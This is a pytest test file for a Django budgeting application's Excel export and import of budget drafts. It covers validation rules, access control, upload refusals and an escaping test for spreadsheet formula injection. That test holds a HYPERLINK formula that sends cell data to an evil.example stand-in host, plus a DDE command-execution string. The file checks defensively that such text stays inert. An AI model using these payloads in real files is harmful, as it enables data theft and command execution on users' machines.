"""A unit's budget draft in and out of Excel (issue 18 item 5): the round trip through the pages
(export, amounts changed in the workbook, import; the 财政拨款 revenue derived again), every bad
row named with nothing kept, computed lines kept (R-PJ-8), R-PJ-3 over the whole file, another
unit's draft a 404, uploads refused with their 4xx, text kept inert, every stage exported."""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from tests.budget_helpers import open_round

from yusuan.audit.models import AuditRecord
from yusuan.budgeting.choices import DraftStage, RevenueKind, Side
from yusuan.budgeting.exchange import COLUMNS, draft_import, draft_workbook
from yusuan.budgeting.models import BudgetDraft, BudgetLine
from yusuan.budgeting.services.drafts import LineInput, draft_start, line_remove, line_save
from yusuan.common.errors import BusinessRuleError
from yusuan.common.money import Money

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
LETTER = {c.key: get_column_letter(i) for i, c in enumerate(COLUMNS, start=1)}


def _draft(user: Any) -> BudgetDraft:
    """The school's 一上, as draft_start builds it: 13 computed basic lines, 6 project lines
    (two per project, each project's lines filling its 2027 plan) and the derived revenue."""
    budget_round = open_round(user)
    return draft_start(
        actor=user("school_clerk"), round_id=budget_round.pk, stage=DraftStage.APPLY_1
    )


def _lines(draft: BudgetDraft) -> list[BudgetLine]:
    return list(
        BudgetLine.objects.filter(round=draft.round, organisation=draft.organisation).order_by(
            "position"
        )
    )


def _state(draft: BudgetDraft) -> list[tuple[Any, ...]]:
    return [
        (x.pk, x.side, x.project_id, x.fund_type_code, x.amount_fen, x.summary, x.removed)
        for x in _lines(draft)
    ]


def _open(data: bytes) -> tuple[Workbook, Worksheet, dict[int, int]]:
    """The workbook, its lines sheet and the Excel row of each line id."""
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    rows = {
        int(sheet[f"A{n}"].value): n for n in range(2, sheet.max_row + 1) if sheet[f"A{n}"].value
    }
    return book, sheet, rows


def _saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _project_lines(draft: BudgetDraft) -> list[BudgetLine]:
    return [x for x in _lines(draft) if x.side == Side.EXPENDITURE and not x.computed]


def _post(client: Any, draft: BudgetDraft, content: bytes, name: str = "预算.xlsx") -> Any:
    return client.post(
        f"/budgeting/drafts/{draft.pk}/import/", {"file": SimpleUploadedFile(name, content)}
    )


def _fiscal_spending(draft: BudgetDraft) -> int:
    return sum(
        x.amount_fen
        for x in _lines(draft)
        if x.side == Side.EXPENDITURE and not x.removed and x.fund_type_code == "111"
    )


def _fiscal_revenue(draft: BudgetDraft) -> int:
    (line,) = [x for x in _lines(draft) if x.revenue_kind == RevenueKind.FISCAL]
    return line.amount_fen


def test_export_change_the_figures_import_and_the_revenue_follows(
    user: Any, client_as: Any
) -> None:
    draft = _draft(user)
    client = client_as("school_clerk")
    page = client.get(f"/budgeting/drafts/{draft.pk}/").content.decode()
    for name in ("draft-export", "draft-template", "draft-import"):
        assert f'data-testid="{name}"' in page
    form = client.get(f"/budgeting/drafts/{draft.pk}/import/")
    assert form.status_code == 200 and 'data-testid="draft-import-form"' in form.content.decode()
    exported = client.get(f"/budgeting/drafts/{draft.pk}/export/")
    assert exported.status_code == 200
    assert exported["Content-Disposition"] == f'attachment; filename="budget-{draft.number}.xlsx"'
    book, sheet, rows = _open(exported.content)
    assert sheet.column_dimensions["A"].hidden and sheet.protection.sheet
    a, b, c, *_ = _project_lines(draft)
    assert a.project_id == b.project_id  # two lines filling one project's plan (R-PJ-3)
    figures = (a.amount_fen, b.amount_fen, c.amount_fen)
    # Money moves from b to a: a, read first, is over the plan unless b's new figure counts.
    sheet[f"{LETTER['amount']}{rows[a.pk]}"] = float(Money(a.amount_fen + 100_000).to_yuan())
    sheet[f"{LETTER['amount']}{rows[b.pk]}"] = str(Money(b.amount_fen - 100_000).to_yuan())
    sheet[f"{LETTER['amount']}{rows[c.pk]}"] = "20,000.50"
    new = sheet.max_row + 1
    for key, value in {
        "side": "收入",
        "revenue_kind": "事业收入",
        "fund_type": "511 单位资金",
        "amount": 8000,
        "summary": "食堂收入",
    }.items():
        sheet[f"{LETTER[key]}{new}"] = value
    revenue_before, records = _fiscal_revenue(draft), AuditRecord.objects.count()
    answer = _post(client, draft, _saved(book))
    assert answer.status_code == 302, answer.content.decode()[-3000:]
    a.refresh_from_db(), b.refresh_from_db(), c.refresh_from_db()
    assert (a.amount_fen, b.amount_fen, c.amount_fen) == (
        figures[0] + 100_000,
        figures[1] - 100_000,
        2_000_050,
    )
    added = BudgetLine.objects.get(
        round=draft.round, organisation=draft.organisation, summary="食堂收入"
    )
    assert (added.side, added.revenue_kind, added.fund_type_code, added.amount_fen) == (
        "revenue",
        "business",
        "511",
        800_000,
    )
    # the 财政拨款 revenue is derived again from the spending (R-PJ-8): c went down
    assert _fiscal_revenue(draft) == _fiscal_spending(draft)
    assert _fiscal_revenue(draft) == revenue_before - (figures[2] - 2_000_050)
    (record,) = AuditRecord.objects.filter(action="budgeting.draft_import")
    assert AuditRecord.objects.count() == records + 1
    assert {k for k in record.changes if k.endswith(".amount_fen")} == {
        f"lines[{x.position}].amount_fen" for x in (a, b, c, added)
    }
    assert record.changes[f"lines[{c.position}].amount_fen"] == [figures[2], 2_000_050]
    # the new export has the new figures and imports to no change at all
    again = client.get(f"/budgeting/drafts/{draft.pk}/export/").content
    _book, sheet, rows = _open(again)
    assert sheet[f"{LETTER['amount']}{rows[c.pk]}"].value == Decimal("20000.5")
    before = _state(draft)
    answer = _post(client, draft, again)
    assert answer.status_code == 302 and _state(draft) == before
    assert AuditRecord.objects.filter(action="budgeting.draft_import").count() == 1


def test_three_bad_rows_are_all_reported_and_nothing_is_kept(user: Any, client_as: Any) -> None:
    draft = _draft(user)
    a, _b, c, d, *_ = _project_lines(draft)
    book, sheet, rows = _open(draft_workbook(draft, template=True))
    sheet[f"{LETTER['amount']}{rows[a.pk]}"] = 1000  # a good change: not kept either
    sheet[f"{LETTER['amount']}{rows[c.pk]}"] = "12,34.5"
    sheet[f"{LETTER['dep_bgt_eco_code']}{rows[d.pk]}"] = "39999"
    new = sheet.max_row + 1
    sheet[f"{LETTER['side']}{new}"] = "支出"
    sheet[f"{LETTER['project_code']}{new}"] = "不存在的项目"
    sheet[f"{LETTER['fund_type']}{new}"] = "111"
    sheet[f"{LETTER['amount']}{new}"] = 100
    data = _saved(book)
    before, records = _state(draft), AuditRecord.objects.count()
    with pytest.raises(BusinessRuleError) as exc:
        draft_import(actor=user("school_clerk"), draft_id=draft.pk, data=data, filename="a.xlsx")
    got = [(e.row, e.field, e.code, e.rule, e.value) for e in exc.value.errors]
    assert got == [
        (rows[c.pk], f"lines[{rows[c.pk]}].amount", "money.grouping", None, "12,34.5"),
        (
            rows[d.pk],
            f"lines[{rows[d.pk]}].dep_bgt_eco_code",
            "core.code_unknown",
            "R-MD-1",
            "39999",
        ),
        (new, f"lines[{new}].project_code", "budgeting.project_required", "R-PJ-1", "不存在的项目"),
    ], got
    first = exc.value.errors[0]
    assert first.message_zh.startswith(f"工作表“预算明细”第 {rows[c.pk]} 行“编制数(元)”：")
    assert first.message_en.startswith(f"sheet 'Budget lines' row {rows[c.pk]} Working figure")
    assert (_state(draft), AuditRecord.objects.count()) == (before, records)
    page = _post(client_as("school_clerk"), draft, data)
    html = page.content.decode()
    assert page.status_code == 422 and 'data-testid="import-errors"' in html
    for field in (e.field for e in exc.value.errors):
        assert f'data-field="{field}"' in html
    assert _state(draft) == before


def test_a_computed_line_keeps_its_figure_r_pj_8(user: Any) -> None:
    draft = _draft(user)
    lines = _lines(draft)
    basic = next(x for x in lines if x.computed and x.side == Side.EXPENDITURE)
    fiscal = next(x for x in lines if x.revenue_kind == RevenueKind.FISCAL)
    book, sheet, rows = _open(draft_workbook(draft, template=True))
    assert sheet[f"{LETTER['amount']}{rows[basic.pk]}"].protection.locked
    sheet[f"{LETTER['amount']}{rows[basic.pk]}"] = float(Money(basic.amount_fen + 100).to_yuan())
    sheet[f"{LETTER['summary']}{rows[fiscal.pk]}"] = "改过的摘要"
    before = _state(draft)
    with pytest.raises(BusinessRuleError) as exc:
        draft_import(
            actor=user("school_clerk"), draft_id=draft.pk, data=_saved(book), filename="a.xlsx"
        )
    got = [(e.field, e.code, e.rule, e.limit) for e in exc.value.errors]
    assert got == [
        (
            f"lines[{rows[basic.pk]}].amount",
            "budgeting.computed_line",
            "R-PJ-8",
            Money(basic.amount_fen).format(),
        ),
        (
            f"lines[{rows[fiscal.pk]}].summary",
            "budgeting.computed_line",
            "R-PJ-8",
            Money(fiscal.amount_fen).format(),
        ),
    ], got
    assert (
        "R-PJ-8" in exc.value.errors[0].message_en and "系统生成" in exc.value.errors[0].message_zh
    )
    assert _state(draft) == before


def test_r_pj_3_is_checked_over_the_whole_file(user: Any) -> None:
    """Both lines of a project raised: each alone would fit if the other kept its figure."""
    draft = _draft(user)
    a, b, *_ = _project_lines(draft)
    book, sheet, rows = _open(draft_workbook(draft))
    sheet[f"{LETTER['amount']}{rows[a.pk]}"] = float(Money(a.amount_fen + 50).to_yuan())
    sheet[f"{LETTER['amount']}{rows[b.pk]}"] = float(Money(b.amount_fen + 50).to_yuan())
    with pytest.raises(BusinessRuleError) as exc:
        draft_import(
            actor=user("school_clerk"), draft_id=draft.pk, data=_saved(book), filename="a.xlsx"
        )
    plan = a.amount_fen + b.amount_fen
    assert {(e.row, e.code, e.rule, e.value, e.limit) for e in exc.value.errors} == {
        (
            rows[x.pk],
            "budgeting.over_plan",
            "R-PJ-3",
            Money(plan + 100).format(),
            Money(plan).format(),
        )
        for x in (a, b)
    }


def test_ids_that_are_not_the_drafts_and_removed_lines(user: Any) -> None:
    draft = _draft(user)
    a, b, c, *_ = _project_lines(draft)
    line_remove(actor=user("school_clerk"), draft_id=draft.pk, line_id=c.pk)
    hospital_line = BudgetLine.objects.filter(organisation__name="吴江区第一人民医院").first()
    assert hospital_line is not None
    book, sheet, rows = _open(draft_workbook(draft, template=True))
    assert sheet[f"{LETTER['status']}{rows[c.pk]}"].value == "已删除，只读"
    sheet[f"{LETTER['amount']}{rows[c.pk]}"] = 5
    sheet[f"A{rows[b.pk]}"] = hospital_line.pk  # another unit's line: not found
    copy = sheet.max_row + 1
    for column in range(1, len(COLUMNS) + 1):  # a copied row keeps the hidden id
        sheet.cell(copy, column).value = sheet.cell(rows[a.pk], column).value
    with pytest.raises(BusinessRuleError) as exc:
        draft_import(
            actor=user("school_clerk"), draft_id=draft.pk, data=_saved(book), filename="a.xlsx"
        )
    got = {(e.row, e.field, e.code) for e in exc.value.errors}
    assert got == {
        (rows[b.pk], f"lines[{rows[b.pk]}].line_id", "budgeting.unknown_line"),
        (rows[c.pk], f"lines[{rows[c.pk]}].amount", "budgeting.removed_line"),
        (copy, f"lines[{copy}].line_id", "budgeting.duplicate_line"),
    }, got


def test_another_units_draft_is_a_404_and_only_a_draft_imports(user: Any, client_as: Any) -> None:
    mine = _draft(user)
    hospital = BudgetDraft.objects.filter(
        organisation__name="吴江区第一人民医院", stage=DraftStage.APPLY_2
    ).get()
    school = client_as("school_clerk")
    for what in ("export", "template", "import"):
        assert school.get(f"/budgeting/drafts/{hospital.pk}/{what}/").status_code == 404
    before = [(x.pk, x.amount_fen) for x in _lines(hospital)]
    assert _post(school, hospital, draft_workbook(mine)).status_code == 404
    assert [(x.pk, x.amount_fen) for x in _lines(hospital)] == before
    # its own clerk: the approved draft exports every stage, and is not imported (409)
    clerk = client_as("hospital_clerk")
    exported = clerk.get(f"/budgeting/drafts/{hospital.pk}/export/")
    assert exported.status_code == 200
    _book, sheet, rows = _open(exported.content)
    stage_columns = [LETTER[k] for k in ("apply_1", "control", "apply_2", "approved")]
    figures = [[sheet[f"{col}{n}"].value for col in stage_columns] for n in rows.values()]
    assert all(row[0] is not None and row[2] is not None and row[3] is not None for row in figures)
    assert any(row[1] is not None for row in figures)  # 一下: finance's figure of project lines
    page = clerk.get(f"/budgeting/drafts/{hospital.pk}/import/")
    assert page.status_code == 200 and 'data-testid="import-closed"' in page.content.decode()
    refused = _post(clerk, hospital, exported.content)
    assert refused.status_code == 409 and "budgeting.not_draft" in refused.content.decode()
    assert [(x.pk, x.amount_fen) for x in _lines(hospital)] == before


def test_wrong_files_are_refused_with_their_4xx(user: Any, client_as: Any) -> None:
    draft = _draft(user)
    client = client_as("school_clerk")
    before = _state(draft)
    csv = _post(client, draft, "行ID,收支\n1,支出\n".encode(), name="预算.csv")
    assert csv.status_code == 422 and "import.file_type" in csv.content.decode()
    assert "只支持 .xlsx" in csv.content.decode()
    broken = _post(client, draft, b"PK\x03\x04 not really a workbook", name="预算.xlsx")
    assert broken.status_code == 422 and "import.unreadable" in broken.content.decode()
    huge = _post(client, draft, b"0" * (20 * 1024 * 1024 + 1), name="预算.xlsx")
    assert huge.status_code == 413 and "upload.too_large" in huge.content.decode()
    assert "超过大小上限 20.0 MB" in huge.content.decode()
    empty = client.post(f"/budgeting/drafts/{draft.pk}/import/", {})
    assert empty.status_code == 400 and "import.file_required" in empty.content.decode()
    assert _state(draft) == before


def test_hostile_text_stays_text_both_ways(user: Any) -> None:
    draft = _draft(user)
    a, b, *_ = _project_lines(draft)
    line_save(
        actor=user("school_clerk"),
        draft_id=draft.pk,
        line_id=a.pk,
        data=LineInput(
            amount=Money(a.amount_fen),
            project_id=a.project_id,
            exp_func_code=a.exp_func_code,
            dep_bgt_eco_code=a.dep_bgt_eco_code,
            fund_type_code=a.fund_type_code,
            summary=HOSTILE,
        ),
    )
    data = draft_workbook(draft, template=True)
    book, sheet, rows = _open(data)
    cell = sheet[f"{LETTER['summary']}{rows[a.pk]}"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)
    for row in sheet.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")):
                assert c.data_type == "s" and c.quotePrefix, c.coordinate
    before = _state(draft)
    unchanged = draft_import(
        actor=user("school_clerk"), draft_id=draft.pk, data=data, filename="a.xlsx"
    )
    assert (unchanged.changed, unchanged.added, _state(draft)) == ([], [], before)
    sheet[f"{LETTER['summary']}{rows[b.pk]}"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    draft_import(
        actor=user("school_clerk"), draft_id=draft.pk, data=_saved(book), filename="a.xlsx"
    )
    b.refresh_from_db()
    assert b.summary == "@SUM(1+1)*cmd|' /C calc'!A0"
    _book, sheet, rows = _open(draft_workbook(draft))
    cell = sheet[f"{LETTER['summary']}{rows[b.pk]}"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (b.summary, "s", True)


def test_the_template_guides_the_clerk(user: Any, client_as: Any) -> None:
    draft = _draft(user)
    answer = client_as("school_clerk").get(f"/budgeting/drafts/{draft.pk}/template/")
    assert answer.status_code == 200
    book, sheet, rows = _open(answer.content)
    assert book.sheetnames == ["预算明细", "说明"]
    notes = " ".join(str(c.value) for r in book["说明"].iter_rows() for c in r if c.value)
    assert "保持不变" in notes and "R-PJ-8" in notes and "留空" in notes
    lists = {
        str(v.sqref).split(":")[0][:-1]: v.formula1 for v in sheet.data_validations.dataValidation
    }
    assert lists[LETTER["side"]] == '"支出,收入"'
    assert "111 一般公共预算" in lists[LETTER["fund_type"]]
    assert "财政拨款收入" not in lists[LETTER["revenue_kind"]]
    a = _project_lines(draft)[0]
    assert sheet[f"{LETTER['amount']}{rows[a.pk]}"].protection.locked is False
    assert sheet[f"{LETTER['apply_1']}{rows[a.pk]}"].protection.locked is True
    assert sheet[f"A{rows[a.pk]}"].protection.locked is True
    assert sheet.column_dimensions[LETTER["amount"]].protection.locked is False  # new rows
    # a department's auditor without budgeting.prepare_budget gets neither template nor import
    assert client_as("wj_auditor").get(f"/budgeting/drafts/{draft.pk}/template/").status_code == 403


def test_meetings_are_people_times_days_times_standard_r_bp_14(user: Any) -> None:
    draft = _draft(user)
    a, b, *_ = _project_lines(draft)
    book, sheet, rows = _open(draft_workbook(draft, template=True))
    for line, people, days, standard, amount in ((a, 10, 2, 150, None), (b, 3, 1, 100, 999)):
        for key, value in (("people", people), ("days", days), ("standard", standard)):
            sheet[f"{LETTER[key]}{rows[line.pk]}"] = value
        sheet[f"{LETTER['amount']}{rows[line.pk]}"] = amount
    with pytest.raises(BusinessRuleError) as exc:
        draft_import(
            actor=user("school_clerk"), draft_id=draft.pk, data=_saved(book), filename="a.xlsx"
        )
    assert [(e.field, e.code, e.rule, e.value, e.limit) for e in exc.value.errors] == [
        (f"lines[{rows[b.pk]}].amount", "budgeting.amount_not_product", "R-BP-14", "999", "300.00")
    ]
    sheet[f"{LETTER['amount']}{rows[b.pk]}"] = 300
    draft_import(
        actor=user("school_clerk"), draft_id=draft.pk, data=_saved(book), filename="a.xlsx"
    )
    a.refresh_from_db(), b.refresh_from_db()
    assert (a.people, a.days, a.standard_fen, a.amount_fen) == (10, 2, 15_000, 300_000)
    assert b.amount_fen == 30_000
    again = draft_import(
        actor=user("school_clerk"), draft_id=draft.pk, data=draft_workbook(draft), filename="a.xlsx"
    )
    assert (again.changed, again.added) == ([], [])
